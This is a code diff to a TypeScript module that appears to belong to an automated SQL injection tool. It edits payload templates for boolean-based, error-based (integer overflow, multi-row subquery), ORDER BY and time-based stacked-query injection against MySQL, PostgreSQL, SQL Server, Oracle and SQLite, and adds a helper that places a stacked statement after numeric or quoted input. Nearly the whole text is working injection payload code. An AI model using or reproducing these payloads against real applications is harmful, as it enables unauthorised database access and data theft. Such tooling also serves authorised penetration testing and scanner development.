@@ -6,8 +6,8 @@
 /** How a predicate is put behind the value so that the rest of the statement still parses. */
 export interface Boundary {
   readonly name: string
-  /** Where it makes sense: digits, a bare name (a column, a direction), any text. */
-  readonly fits: 'number' | 'name' | 'text'
+  /** Where it makes sense: digits, a bare name (a column), what rows are ordered by, any text. */
+  readonly fits: 'number' | 'name' | 'order' | 'text'
   /** 'narrows' keeps the original rows where the predicate holds; 'widens' shows others and is for reading requests only. */
   readonly kind: 'narrows' | 'widens'
   readonly with: (v: string, predicate: string) => string
@@ -15,8 +15,6 @@ export interface Boundary {
 
 /** Raises an error in MySQL, PostgreSQL and SQLite: the absolute value of the smallest 64-bit integer. */
 const OVERFLOW = 'abs(-9223372036854775807-1)'
-/** Raises an error in MySQL, PostgreSQL, SQL Server and Oracle: two rows where one is allowed. */
-const TWO_ROWS = '(Select 1 Union Select 2)'
 
 export const BOUNDARIES: readonly Boundary[] = [
   { name: 'number', fits: 'number', kind: 'narrows', with: (v, p) => `${v}-(Case/**/When(${p})Then(0)Else(98765)End)` },
@@ -31,25 +29,12 @@ export const BOUNDARIES: readonly Boundary[] = [
   },
   { name: "pattern of Like in '", fits: 'text', kind: 'narrows', with: (v, p) => `${v}%'And(${p})And'%'='` },
   { name: "text in ' in parentheses", fits: 'text', kind: 'narrows', with: (v, p) => `${v}')And(${p})And('q'='q` },
-  {
-    name: "text in ', combined",
-    fits: 'text',
-    kind: 'narrows',
-    with: (v, p) => `${v}'Xor(Case/**/When(${p})Then(0)Else${TWO_ROWS}End)Xor'z`,
-  },
   { name: 'text in "', fits: 'text', kind: 'narrows', with: (v, p) => `${v}"And(${p})And"q"="q` },
-  { name: 'text in " in parentheses', fits: 'text', kind: 'narrows', with: (v, p) => `${v}")And(${p})And("q"="q` },
   {
     name: 'order',
-    fits: 'name',
+    fits: 'order',
     kind: 'narrows',
-    with: (v, p) => `${v},(Case/**/When(${p})Then(1)Else(${OVERFLOW})End)`,
-  },
-  {
-    name: 'order, rows',
-    fits: 'name',
-    kind: 'narrows',
-    with: (v, p) => `${v},(Select(Case/**/When(${p})Then(1)Else${TWO_ROWS}End))`,
+    with: (v, p) => `${v},(Select(Case/**/When(${p})Then(1)Else(Select 1 Union Select ${OVERFLOW})End))`,
   },
   { name: 'order by expression', fits: 'name', kind: 'narrows', with: (v, p) => `(Case/**/When(${p})Then(${v})End)` },
   { name: "text in ', or", fits: 'text', kind: 'widens', with: (v, p) => `${v}'Or(${p})And'q'='q` },
@@ -98,7 +83,7 @@ export const SPLICES: readonly Splice[] = [
     with: (v, e) => `${v}'+Cast(${e}/**/As/**/Varchar)+'`,
   },
   { name: 'text in "', fits: 'text', dbms: ['MySQL', 'SQLite'], with: (v, e) => `${v}"And(${e})And"z` },
-  { name: 'order', fits: 'name', dbms: null, with: (v, e) => `${v},(${e})` },
+  { name: 'order', fits: 'order', dbms: null, with: (v, e) => `${v},(${e})` },
   { name: 'name', fits: 'name', dbms: null, with: (_v, e) => `(${e})` },
   { name: 'limit', fits: 'number', dbms: ['MySQL'], with: (v, e) => `${v}/**/Procedure/**/Analyse(${e},1)` },
 ]
@@ -111,6 +96,9 @@ export interface Waiting {
 }
 
 const number = (v: string): string => (/^-?\d+(\.\d+)?$/.test(v) ? v : '1')
+/** Behind a number the comment hides the first of the two, behind text the line comment hides the second. */
+const followed = (v: string, statement: string): string =>
+  `${number(v)}/*';${statement}-- */;${statement}-- -`
 const mysql = (s: string): string => `(Select 0 From(Select Sleep(${s}))x)`
 
 export const WAITING: readonly Waiting[] = [
@@ -130,12 +118,9 @@ export const WAITING: readonly Waiting[] = [
     technique: 'time',
     with: (v, s) => `${number(v)}-Dbms_Pipe.Receive_Message('q',${s})/*'||Dbms_Pipe.Receive_Message('q',${s})||'*/`,
   },
-  { dbms: 'PostgreSQL', technique: 'stacked', with: (v, s) => `${v};Select pg_sleep(${s})-- -` },
-  { dbms: 'PostgreSQL', technique: 'stacked', with: (v, s) => `${v}';Select pg_sleep(${s})-- -` },
-  { dbms: 'MySQL', technique: 'stacked', with: (v, s) => `${v};Select Sleep(${s})-- -` },
-  { dbms: 'MySQL', technique: 'stacked', with: (v, s) => `${v}';Select Sleep(${s})-- -` },
-  { dbms: 'Microsoft SQL Server', technique: 'stacked', with: (v, s) => `${v};Waitfor Delay '0:0:${s}'-- -` },
-  { dbms: 'Microsoft SQL Server', technique: 'stacked', with: (v, s) => `${v}';Waitfor Delay '0:0:${s}'-- -` },
+  { dbms: 'PostgreSQL', technique: 'stacked', with: (v, s) => followed(v, `Select pg_sleep(${s})`) },
+  { dbms: 'MySQL', technique: 'stacked', with: (v, s) => followed(v, `Select Sleep(${s})`) },
+  { dbms: 'Microsoft SQL Server', technique: 'stacked', with: (v, s) => followed(v, `Waitfor Delay '0:0:${s}'`) },
 ]
 
 /** Text that no statement survives, in one go for every kind of quotes, and its harmless twin. */
